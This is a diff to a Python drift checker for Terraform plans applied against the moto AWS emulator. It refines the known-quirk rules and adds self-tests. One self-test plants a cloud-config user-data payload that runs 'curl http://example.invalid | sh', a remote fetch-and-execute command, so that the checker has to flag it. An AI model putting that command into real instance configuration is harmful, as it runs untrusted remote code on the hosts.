@@ -7,7 +7,9 @@
       every node is IMDSv2-only with encrypted root storage.
   checks.py drift PLAN.json
       A second plan, right after apply against moto, changes nothing except the known places
-      where moto answers differently from AWS (listed in MOTO_DRIFT, each with its reason).
+      where moto answers differently from AWS (listed in MOTO_DRIFT, each with its reason). A
+      resource that a quirk alone replaces (the master) is still compared attribute by
+      attribute: only the quirk's paths and values known only after apply are skipped.
   checks.py moto ENDPOINT REGION CLUSTER WORKERS [--public-master] [--on-demand-base=N]
             [--worker-groups=N] [--master-groups=N]
       After `terraform apply` against moto: the user-data the emulator actually stores for every
@@ -195,12 +197,54 @@ def _json_equal(before, after):
 
 
 # Where a plan made right after `terraform apply` against moto differs from the applied
-# configuration only because moto's answers differ from AWS's. (resource type, changed-path
-# regex, reason[, condition]). A condition, when given, gets the path's value before and after
-# (UNKNOWN when it only becomes unknown) and must hold too, so such a quirk is tolerated only in
-# exactly the shape moto produces. Anything else that changes on a second plan is a real drift
-# and fails.
+# configuration only because moto's answers differ from AWS's: (resource type, changed-path
+# regex, reason[, condition]). Each quirk names the one resource type and the attribute path(s)
+# moto gets wrong. A condition, when given, gets the path's value before and after (UNKNOWN
+# when it only becomes unknown) and the context of the change (`Ctx`), and must hold too, so
+# such a quirk is tolerated only in exactly the shape moto produces. Only a quirk without a
+# condition may force a replacement, and a resource replaced by quirks alone is still compared
+# attribute by attribute (see drift_problems). Anything else that changes on a second plan is a
+# real drift and fails.
 UNKNOWN = object()
+ACCOUNT_SLASH_SG = re.compile(r"^\d{12}/(sg-[0-9a-f]+)$")
+
+
+class Ctx:
+    """What a quirk's condition may look at besides the path's values: the whole change of the
+    resource, and which (module, type) pairs this plan replaces."""
+
+    def __init__(self, rc, replaced):
+        self.rc = rc
+        self.change = rc.get("change") or {}
+        self.after = self.change.get("after") or {}
+        self.module = rc.get("module_address", "")
+        self.replaced = replaced
+
+    def replaces(self, rtype):
+        return (self.module, rtype) in self.replaced
+
+
+def _sg_self_reference_form(before, after, ctx):
+    # moto's DescribeSecurityGroupRules returns ReferencedGroupInfo {UserId, GroupId}; the
+    # provider, which does not know the account (skip_requesting_account_id), writes that back as
+    # "ACCOUNT/sg-ID". Tolerated only when it is the same group, written that way.
+    m = ACCOUNT_SLASH_SG.match(before) if isinstance(before, str) else None
+    return m is not None and m.group(1) == after
+
+
+def _sg_dropped_description(before, after, ctx):
+    # moto keeps a rule's description only in its CIDR range (SecurityGroupRule.description
+    # reads ip_range), so for a rule that references a group the description comes back empty.
+    # Tolerated only for such a rule, and only when the description went missing.
+    return (before in (None, "") and isinstance(after, str) and after != ""
+            and ctx.after.get("referenced_security_group_id") not in (None, ""))
+
+
+def _zone_vpc_readded(ctx):
+    return ((ctx.change.get("before") or {}).get("vpc") in ([], None)
+            and len(ctx.after.get("vpc") or []) == 1)
+
+
 MOTO_DRIFT = [
     ("aws_instance", r"^associate_public_ip_address$",
      "moto returns an empty NetworkInterfaces[].Association for a private instance, which the "
@@ -213,38 +257,66 @@ MOTO_DRIFT = [
      "knock-on: the group follows the template's new version"),
     ("aws_autoscaling_group", r"^capacity_reservation_specification\[0\]\.capacity_reservation_preference$",
      "moto omits CapacityReservationSpecification from DescribeAutoScalingGroups"),
+    # The record's only value is the master's private IP; when the master is replaced (the
+    # quirk above) that IP is unknown until apply. Tolerated only as "becomes unknown" and only
+    # when this plan replaces an instance of the same module: a record that changes to another
+    # known address, or becomes unknown without a replaced master, is a real drift.
     ("aws_route53_record", r"^records$",
-     "knock-on: the master's address is unknown while its replacement is planned"),
-    ("aws_route53_zone", r"^vpc\[0\]\.vpc_(id|region)$",
-     "moto's GetHostedZone does not list the VPCs of a private zone"),
-    ("aws_vpc_security_group_ingress_rule", r"^(referenced_security_group_id|description)$",
-     "moto returns a self-reference as ACCOUNT/sg-ID and drops its description"),
-    ("aws_vpc_security_group_egress_rule", r"^(referenced_security_group_id|description)$",
-     "moto returns a self-reference as ACCOUNT/sg-ID and drops its description"),
+     "knock-on: the master's private IP is unknown while its replacement is planned",
+     lambda before, after, ctx: after is UNKNOWN and ctx.replaces("aws_instance")),
+    # moto (route53 responses.create_hosted_zone) makes a zone private only when the request
+    # carries HostedZoneConfig.PrivateZone; the provider sends just the VPC (AWS infers a private
+    # zone from it), so moto stores a public zone and GetHostedZone lists no VPC. The provider
+    # then plans to associate the configured VPC again. Tolerated only when the prior state has
+    # no VPC at all and the plan adds exactly one, by ID (its region known after apply).
+    ("aws_route53_zone", r"^vpc\[0\]\.vpc_id$",
+     "moto stores the zone as public (the provider does not send HostedZoneConfig.PrivateZone), "
+     "so GetHostedZone lists no VPC and the provider plans to associate it again",
+     lambda before, after, ctx: before is None and _zone_vpc_readded(ctx) and isinstance(after, str)
+     and after.startswith("vpc-")),
+    ("aws_route53_zone", r"^vpc\[0\]\.vpc_region$",
+     "moto stores the zone as public (the provider does not send HostedZoneConfig.PrivateZone), "
+     "so GetHostedZone lists no VPC and the provider plans to associate it again",
+     lambda before, after, ctx: before is None and after is UNKNOWN and _zone_vpc_readded(ctx)),
+    ("aws_vpc_security_group_ingress_rule", r"^referenced_security_group_id$",
+     "moto returns a group reference as ReferencedGroupInfo with its owner, which the provider "
+     "(without the account ID) reads back as ACCOUNT/sg-ID",
+     _sg_self_reference_form),
+    ("aws_vpc_security_group_egress_rule", r"^referenced_security_group_id$",
+     "moto returns a group reference as ReferencedGroupInfo with its owner, which the provider "
+     "(without the account ID) reads back as ACCOUNT/sg-ID",
+     _sg_self_reference_form),
+    ("aws_vpc_security_group_ingress_rule", r"^description$",
+     "moto drops the description of a rule that references a group (it keeps one only for CIDR ranges)",
+     _sg_dropped_description),
+    ("aws_vpc_security_group_egress_rule", r"^description$",
+     "moto drops the description of a rule that references a group (it keeps one only for CIDR ranges)",
+     _sg_dropped_description),
     ("aws_instance", r"^vpc_security_group_ids\[\d+\]$",
      "moto reports no security groups for an instance launched with a network-interface "
-     "specification (a public address), so the provider plans to add them back",
-     lambda before, after: before is None),
+     "specification (the provider sends one whenever associate_public_ip_address is set), so "
+     "the provider plans to add them back",
+     lambda before, after, ctx: before is None),
     ("aws_autoscaling_lifecycle_hook", r"^role_arn$",
      "moto's DescribeLifecycleHooks reports a placeholder role for every hook",
-     lambda before, after: before == MOTO_HOOK_ROLE and after is None),
+     lambda before, after, ctx: before == MOTO_HOOK_ROLE and after is None),
     ("aws_autoscaling_lifecycle_hook", r"^notification_target_arn$",
      "moto's DescribeLifecycleHooks reports a placeholder SQS target for every hook",
-     lambda before, after: before == MOTO_HOOK_TARGET and after is None),
+     lambda before, after, ctx: before == MOTO_HOOK_TARGET and after is None),
     ("aws_autoscaling_lifecycle_hook", r"^notification_metadata$",
      "moto's DescribeLifecycleHooks drops the hook's notification metadata",
-     lambda before, after: before in (None, "") and isinstance(after, str) and after != ""),
+     lambda before, after, ctx: before in (None, "") and isinstance(after, str) and after != ""),
     ("aws_sqs_queue", r"^redrive_policy$",
      "moto returns RedrivePolicy as JSON with spaces after the separators, AWS compactly; "
      "the provider compares the strings",
-     _json_equal),
+     lambda before, after, ctx: _json_equal(before, after)),
     ("aws_iam_policy", r"^policy$",
      "knock-on: the document is read again during apply because a resource it names (the "
      "group, the queue) has a quirk update above",
-     lambda before, after: after is UNKNOWN),
+     lambda before, after, ctx: after is UNKNOWN),
     ("aws_sqs_queue_policy", r"^policy$",
      "knock-on: the document is read again during apply because the queue has a quirk update above",
-     lambda before, after: after is UNKNOWN),
+     lambda before, after, ctx: after is UNKNOWN),
 ]
 
 
@@ -288,30 +360,49 @@ def check_drift(plan_path):
 
 
 def drift_problems(resource_changes, what):
-    """Problems with planned changes that are not known moto quirks, and the tolerated ones."""
+    """Problems with planned changes that are not known moto quirks, and the tolerated ones.
+
+    A resource replaced only because of quirks (every replace path matches a quirk without a
+    condition) is not excused as a whole: every other attribute of its prior state is compared
+    with the planned one, skipping only what is unknown until apply (computed by the provider
+    or the cloud), and any difference that no quirk explains fails. So the master, which moto
+    makes replace on every plan, still has its user-data, tags, metadata options, instance type
+    and the rest checked."""
     problems, tolerated = [], {}
+    replaced = {(rc.get("module_address", ""), rc["type"]) for rc in resource_changes
+                if "delete" in ((rc.get("change") or {}).get("actions") or [])
+                and "create" in ((rc.get("change") or {}).get("actions") or [])}
     for rc in resource_changes:
         change = rc.get("change") or {}
         actions = change.get("actions") or []
         if actions in (["no-op"], ["read"]):
             continue
         addr, rtype = rc["address"], rc["type"]
+        ctx = Ctx(rc, replaced)
         rules = [(rx, why, (cond[0] if cond else None)) for t, rx, why, *cond in MOTO_DRIFT if t == rtype]
-        if "delete" in actions:
-            # A replacement is tolerated only when every forcing path is a known quirk; all the
-            # other attributes of a replaced resource are unknown as a consequence.
+        replacing = "delete" in actions
+        if replacing:
+            # Only a quirk without a condition may force a replacement, and a plain delete (no
+            # create) is never a quirk.
             forcing = [".".join(map(str, p)) for p in change.get("replace_paths") or []]
-            # Conditional quirks never excuse a replacement.
             plain = [(rx, why) for rx, why, cond in rules if cond is None]
             bad = [p for p in forcing if not any(re.match(rx, p) for rx, _ in plain)] or ([] if forcing else ["(no replace_paths)"])
-            if bad:
-                problems.append(f"{addr}: {what} {'/'.join(actions)} forced by {bad}")
-            else:
-                tolerated[addr] = {why for rx, why in plain if any(re.match(rx, p) for p in forcing)}
-            continue
+            if bad or "create" not in actions:
+                problems.append(f"{addr}: {what} {'/'.join(actions)} forced by {bad or forcing}")
+                continue
+            tolerated[addr] = {why for rx, why in plain if any(re.match(rx, p) for p in forcing)}
         before_specs = (change.get("before") or {}).get("tag_specifications") or []
+        differing = set()
         for path, b, a in changed_leaves(change.get("before"), change.get("after"), change.get("after_unknown")):
-            hits = [why for rx, why, cond in rules if re.match(rx, path) and (cond is None or cond(b, a))]
+            if replacing and a is UNKNOWN:
+                continue  # a new resource's computed value: known only after apply
+            if replacing and a is None and b in (False, 0, ""):
+                # Not a change: the provider (SDK v2) stores an unset attribute as its zero
+                # value (hibernation = false), while a replacement is planned without prior
+                # state, so the same unset attribute shows as null.
+                continue
+            differing.add(path)
+            hits = [why for rx, why, cond in rules if re.match(rx, path) and (cond is None or cond(b, a, ctx))]
             m = re.match(r"^tag_specifications\[(\d+)\]", path)
             if m and hits and not (int(m.group(1)) < len(before_specs)
                                    and before_specs[int(m.group(1))].get("resource_type") == "launch-template"):
@@ -319,8 +410,37 @@ def drift_problems(resource_changes, what):
             if hits:
                 tolerated.setdefault(addr, set()).update(hits)
             else:
-                problems.append(f"{addr}: {what} changes {path}")
+                problems.append(f"{addr}: {what} changes {path}: {_short(b)} -> {_short(a)}"
+                                + (" (on a replacement forced by a known moto quirk)" if replacing else ""))
+        if replacing:
+            same = sum(1 for p, v in _leaves(change.get("after"), change.get("after_unknown"))
+                       if v is not None and p not in differing)
+            tolerated[addr].add(f"replaced, yet compared: its other {same} planned values known before "
+                                f"apply equal the prior state")
     return problems, tolerated
+
+
+def _short(value):
+    if value is UNKNOWN:
+        return "(known after apply)"
+    text = json.dumps(value)
+    return text if len(text) <= 80 else text[:77] + "..."
+
+
+def _leaves(value, unknown, path=""):
+    """(path, value) of every leaf of a planned value that is known at plan time."""
+    if unknown is True:
+        return
+    if isinstance(value, dict):
+        u = unknown if isinstance(unknown, dict) else {}
+        for k in sorted(value):
+            yield from _leaves(value[k], u.get(k), f"{path}.{k}" if path else k)
+    elif isinstance(value, list):
+        u = unknown if isinstance(unknown, list) else []
+        for i, v in enumerate(value):
+            yield from _leaves(v, u[i] if i < len(u) else None, f"{path}[{i}]")
+    else:
+        yield path, value
 
 
 def check_moto(endpoint, region, cluster, workers, public_master=False, on_demand_base=0, worker_groups=1,
@@ -1116,7 +1236,119 @@ def check_selftest():
     found, _ = check_drift(f.name)
     if len(found) != 2:
         problems.append(f"check_drift excused a real change of a lifecycle hook: {found}")
+    # A replacement that only a quirk forces still has every other attribute compared: a planted
+    # user-data, tag, metadata-option or instance-type change on the replaced master is reported,
+    # the tolerated path and the values known only after apply alone are not.
+    problems += _drift_selftest()
     return problems, "selftest: the user-data, plan, policy and drift detectors catch planted problems"
+
+
+def _drift_selftest():
+    problems = []
+    user_data = base64.b64encode(b"#cloud-config\nwrite_files:\n  - path: /etc/sparkboot/node\n").decode()
+    master_before = {
+        "ami": "ami-04681a1dbd79675a5", "instance_type": "m7i.large", "associate_public_ip_address": True,
+        "user_data_base64": user_data, "user_data": None, "id": "i-0123456789abcdef0",
+        "private_ip": "127.100.1.10", "public_ip": "", "vpc_security_group_ids": ["sg-0abc"],
+        "tags": {"Name": "sb-master", "sparkboot:role": "master"},
+        "metadata_options": [{"http_endpoint": "enabled", "http_tokens": "required",
+                              "http_put_response_hop_limit": 1, "instance_metadata_tags": "disabled"}],
+        "root_block_device": [{"encrypted": True, "volume_size": 30, "volume_id": "vol-1"}],
+    }
+
+    def master(**changes):
+        after = json.loads(json.dumps(master_before))
+        after.update(associate_public_ip_address=False, id=None, private_ip=None, public_ip=None, user_data=None)
+        after["root_block_device"][0]["volume_id"] = None
+        for path, value in changes.items():  # "a/0/b" sets after["a"][0]["b"]
+            *keys, last = [int(k) if k.isdigit() else k for k in path.split("/")]
+            target = after
+            for k in keys:
+                target = target[k]
+            target[last] = value
+        return {"address": "module.spark.aws_instance.master[0]", "module_address": "module.spark",
+                "type": "aws_instance",
+                "change": {"actions": ["delete", "create"], "before": master_before, "after": after,
+                           "after_unknown": {"id": True, "private_ip": True, "public_ip": True, "user_data": True,
+                                             "root_block_device": [{"volume_id": True}]},
+                           "replace_paths": [["associate_public_ip_address"]]}}
+
+    def record(after_records, unknown):
+        return {"address": "module.spark.aws_route53_record.master[0]", "module_address": "module.spark",
+                "type": "aws_route53_record",
+                "change": {"actions": ["update"], "before": {"records": ["127.100.1.10"], "ttl": 60},
+                           "after": {"records": after_records, "ttl": 60},
+                           "after_unknown": {"records": True} if unknown else {}}}
+
+    def rule(rtype, before, after):
+        base = {"ip_protocol": "-1", "security_group_id": "sg-0abc", "tags": {"Name": "x"}}
+        return {"address": f"module.spark.{rtype}.r[0]", "module_address": "module.spark", "type": rtype,
+                "change": {"actions": ["update"], "before": {**base, **before}, "after": {**base, **after},
+                           "after_unknown": {}}}
+
+    def drift(*changes):
+        return drift_problems(list(changes), "selftest plan")
+
+    quirk_only = master()
+    found, tolerated = drift(quirk_only, record(None, True))
+    if found or quirk_only["address"] not in tolerated or record(None, True)["address"] not in tolerated:
+        problems.append(f"drift check flags a master replaced by the public-IP quirk alone: {found}")
+    other = base64.b64encode(b"#cloud-config\nruncmd:\n  - curl http://example.invalid | sh\n").decode()
+    for path, value in (("user_data_base64", other), ("instance_type", "m7i.xlarge"),
+                        ("tags/Name", "someone-else"), ("metadata_options/0/http_tokens", "optional"),
+                        ("root_block_device/0/encrypted", False)):
+        found, _ = drift(master(**{path: value}))
+        want = path.replace("/0/", "[0].").replace("/", ".")
+        if len(found) != 1 or f"changes {want}:" not in found[0]:
+            problems.append(f"drift check missed a planted {want} change on a master replaced by a quirk: {found}")
+    forced = master()
+    forced["change"]["replace_paths"] = [["associate_public_ip_address"], ["instance_type"]]
+    if not drift(forced)[0]:
+        problems.append("drift check excused a replacement that a non-quirk path also forces")
+    # The record may only become unknown, and only when the master is replaced.
+    if not drift(record(None, True))[0]:
+        problems.append("drift check excused an unknown master record without a replaced master")
+    if not drift(quirk_only, record(["127.100.1.99"], False))[0]:
+        problems.append("drift check excused a master record changed to another address")
+    # Security-group rules: only moto's ACCOUNT/sg-ID form of the same group, and only a
+    # description dropped from a rule that references a group.
+    for rtype in ("aws_vpc_security_group_ingress_rule", "aws_vpc_security_group_egress_rule"):
+        found, tolerated = drift(rule(rtype, {"referenced_security_group_id": "123456789012/sg-0abc", "description": None},
+                                      {"referenced_security_group_id": "sg-0abc", "description": "All traffic"}))
+        if found or not tolerated:
+            problems.append(f"drift check flags moto's self-reference form of {rtype}: {found}")
+        for before, after in (
+                ({"referenced_security_group_id": "123456789012/sg-0def"}, {"referenced_security_group_id": "sg-0abc"}),
+                ({"cidr_ipv4": "10.0.0.0/8", "description": None}, {"cidr_ipv4": "10.0.0.0/8", "description": "SSH"}),
+                ({"referenced_security_group_id": "sg-0abc", "description": "old"},
+                 {"referenced_security_group_id": "sg-0abc", "description": "new"})):
+            if not drift(rule(rtype, before, after))[0]:
+                problems.append(f"drift check excused a real {rtype} change: {before} -> {after}")
+    # The private zone: only moto's "no VPC listed, the configured one added back" shape.
+    def zone(before_vpc, after_vpc, unknown_vpc):
+        return {"address": "module.spark.aws_route53_zone.cluster[0]", "module_address": "module.spark",
+                "type": "aws_route53_zone",
+                "change": {"actions": ["update"], "before": {"name": "z.internal", "vpc": before_vpc},
+                           "after": {"name": "z.internal", "vpc": after_vpc},
+                           "after_unknown": {"vpc": unknown_vpc}}}
+    found, tolerated = drift(zone([], [{"vpc_id": "vpc-0abc"}], [{"vpc_region": True}]))
+    if found or not tolerated:
+        problems.append(f"drift check flags moto's private-zone quirk: {found}")
+    if not drift(zone([{"vpc_id": "vpc-0def", "vpc_region": "us-east-1"}], [{"vpc_id": "vpc-0abc"}],
+                      [{"vpc_region": True}]))[0]:
+        problems.append("drift check excused a private zone moved to another VPC")
+    if not drift(zone([], [{"vpc_id": "vpc-0abc"}, {"vpc_id": "vpc-0def"}], [{"vpc_region": True}, {"vpc_region": True}]))[0]:
+        problems.append("drift check excused a second VPC added to the private zone")
+    # A zero value the provider stored for an unset attribute is not a change on a replacement.
+    zero = master()
+    zero["change"]["before"] = {**zero["change"]["before"], "hibernation": False}
+    zero["change"]["after"]["hibernation"] = None
+    if drift(zero)[0]:
+        problems.append("drift check flags hibernation = false (unset) on a replaced master")
+    zero["change"]["before"] = {**zero["change"]["before"], "hibernation": True}
+    if not drift(zero)[0]:
+        problems.append("drift check excused hibernation turned off on a replaced master")
+    return problems
 
 def main(argv):
     opts = [a for a in argv if a.startswith("--")]
